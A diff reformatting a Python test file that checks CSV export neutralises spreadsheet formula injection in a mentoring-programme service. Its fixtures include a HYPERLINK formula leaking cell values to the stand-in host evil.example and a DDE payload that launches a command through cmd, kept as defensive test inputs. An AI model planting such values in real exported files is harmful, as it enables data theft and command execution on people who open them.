@@ -23,22 +23,46 @@ LINK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open profile")'
 BIO = "=1+1 I film TikTok videos and teach leaders to post on Instagram Reels with confidence."
 MENTORS = [
     profile("ana", 2, BIO, name=LINK, styles=["reverse"], capacity=1),
-    profile("ben", 3, "I run our LinkedIn page and coach executives on writing posts people read.",
-            name="@SUM(1+1)", styles=["reverse"], capacity=1),
+    profile(
+        "ben",
+        3,
+        "I run our LinkedIn page and coach executives on writing posts people read.",
+        name="@SUM(1+1)",
+        styles=["reverse"],
+        capacity=1,
+    ),
 ]
-LEADERS = [profile("lea", 9, "I lead the operations division.", name="+cmd|' /C calc'!A0", styles=[]),
-           profile("max", 8, "I run finance.", name="-2+3", styles=[])]
-COHORT = [{"id": "lea", "need": "TikTok and Instagram Reels for a senior leader"},
-          {"id": "max", "need": "writing LinkedIn posts that people read"}]
+LEADERS = [
+    profile("lea", 9, "I lead the operations division.", name="+cmd|' /C calc'!A0", styles=[]),
+    profile("max", 8, "I run finance.", name="-2+3", styles=[]),
+]
+COHORT = [
+    {"id": "lea", "need": "TikTok and Instagram Reels for a senior leader"},
+    {"id": "max", "need": "writing LinkedIn posts that people read"},
+]
 # A cell a spreadsheet could evaluate: a formula character first, or after whitespace or quote marks.
 FORMULA = re.compile(r"[=+\-@\t\r]|[\s\"']*[=+\-@]")
 
 
-@pytest.mark.parametrize("cell,safe", [
-    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("  =1+2", "'  =1+2"), ('"=1+2', "'\"=1+2"), ("\n@x", "'\n@x"),
-    ("'=1", "''=1"), ("Ana Lopez", "Ana Lopez"), ("a=b", "a=b"), ("", ""), ("1-2", "1-2"),
-])
+@pytest.mark.parametrize(
+    "cell,safe",
+    [
+        ("=1+2", "'=1+2"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("  =1+2", "'  =1+2"),
+        ('"=1+2', "'\"=1+2"),
+        ("\n@x", "'\n@x"),
+        ("'=1", "''=1"),
+        ("Ana Lopez", "Ana Lopez"),
+        ("a=b", "a=b"),
+        ("", ""),
+        ("1-2", "1-2"),
+    ],
+)
 def test_a_cell_that_could_be_a_formula_gets_a_quote_in_front(cell, safe):
     assert neutralise(cell) == safe
 
@@ -46,8 +70,7 @@ def test_a_cell_that_could_be_a_formula_gets_a_quote_in_front(cell, safe):
 def test_owasp_examples_are_one_quoted_text_cell_and_numbers_stay_numbers():
     # OWASP's examples: a separator or a quote inside a cell must not start a new cell with a formula.
     text = csv_text(["name", "score"], [['=1+2";=1+2', 0.5], ["=1+2'\" ;,=1+2", 0.25], ["Bob;=1+1", 0.0]])
-    assert text.splitlines() == ['"name","score"', '"\'=1+2"";=1+2",0.5', '"\'=1+2\'"" ;,=1+2",0.25',
-                                 '"Bob;=1+1",0.0']
+    assert text.splitlines() == ['"name","score"', '"\'=1+2"";=1+2",0.5', '"\'=1+2\'"" ;,=1+2",0.25', '"Bob;=1+1",0.0']
 
 
 @pytest.fixture
@@ -60,8 +83,9 @@ def service(make_service):
 @pytest.fixture
 def pid(service):
     programmes = service.programmes
-    view = programmes.create({"name": "=HYPERLINK(\"http://evil.example\")", "style": "reverse", "cohort": COHORT,
-                              "sessions": 2})
+    view = programmes.create(
+        {"name": '=HYPERLINK("http://evil.example")', "style": "reverse", "cohort": COHORT, "sessions": 2}
+    )
     assert {k: p.mentor_id for k, p in programmes.run(view.record.id).pairs.items()} == {"lea": "ana", "max": "ben"}
     return view.record.id
 
